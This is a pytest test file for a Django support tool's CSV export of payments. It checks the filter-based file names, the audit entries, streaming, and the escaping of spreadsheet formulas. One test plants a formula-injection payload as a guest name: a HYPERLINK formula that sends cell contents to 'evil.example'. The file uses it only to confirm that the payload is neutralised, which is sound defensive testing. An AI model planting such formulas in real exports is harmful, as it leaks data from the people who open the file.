"""The export: the current search as streamed CSV, its filters in the file name, its own permission, one audit
entry per export, and cells a spreadsheet would run as formulas neutralised."""

import csv
import io

import pytest

from mpesa.models import Payment, SupportAction
from support.views import neutralise

pytestmark = pytest.mark.django_db


def rows_of(response) -> list[list[str]]:
    assert response.streaming
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_export_is_the_current_search_with_its_filters_in_the_name(agent_client, agent, paid_payment):
    payment = paid_payment()
    response = agent_client.get("/support/export.csv", {"q": "UKK4H7TQ2M", "status": "succeeded"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="payments-q-ukk4h7tq2m-status-succeeded.csv"'
    header, *rows = rows_of(response)
    assert header[:3] == ["payment", "created_at_eat", "booking"]
    assert [row[0] for row in rows] == [str(payment.pk)]
    assert rows[0][9] == "UKK4H7TQ2M"
    action = SupportAction.objects.get(kind="export")
    assert action.actor == agent and action.details == {"filters": {"q": "UKK4H7TQ2M", "status": "succeeded"}}
    assert rows_of(agent_client.get("/support/export.csv", {"q": "nobody-at-all"}))[1:] == []
    assert SupportAction.objects.filter(kind="export").count() == 2


def test_formula_cells_come_out_neutralised(agent_client, paid_payment, guest):
    paid_payment()
    guest.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    guest.save()
    header, row = rows_of(agent_client.get("/support/export.csv", {"q": "UKK4H7TQ2M"}))
    assert row[header.index("guest")] == "'" + guest.full_name
    for cell in ["=1+1", "+254", "-2", "@SUM(A1)", "\tx"]:
        assert neutralise(cell).startswith("'")
    assert neutralise("Grace") == "Grace" and neutralise(None) == "" and neutralise(4500) == "4500"


def test_invalid_filters_are_refused_without_an_export(agent_client):
    response = agent_client.get("/support/export.csv", {"date_from": "yesterday"})
    assert response.status_code == 422 and not SupportAction.objects.exists()


def test_the_export_streams_rows_a_chunk_at_a_time(agent_client, paid_payment, django_assert_max_num_queries):
    paid_payment()
    with django_assert_max_num_queries(8):
        response = agent_client.get("/support/export.csv")
        assert len(rows_of(response)) == 1 + Payment.objects.count()
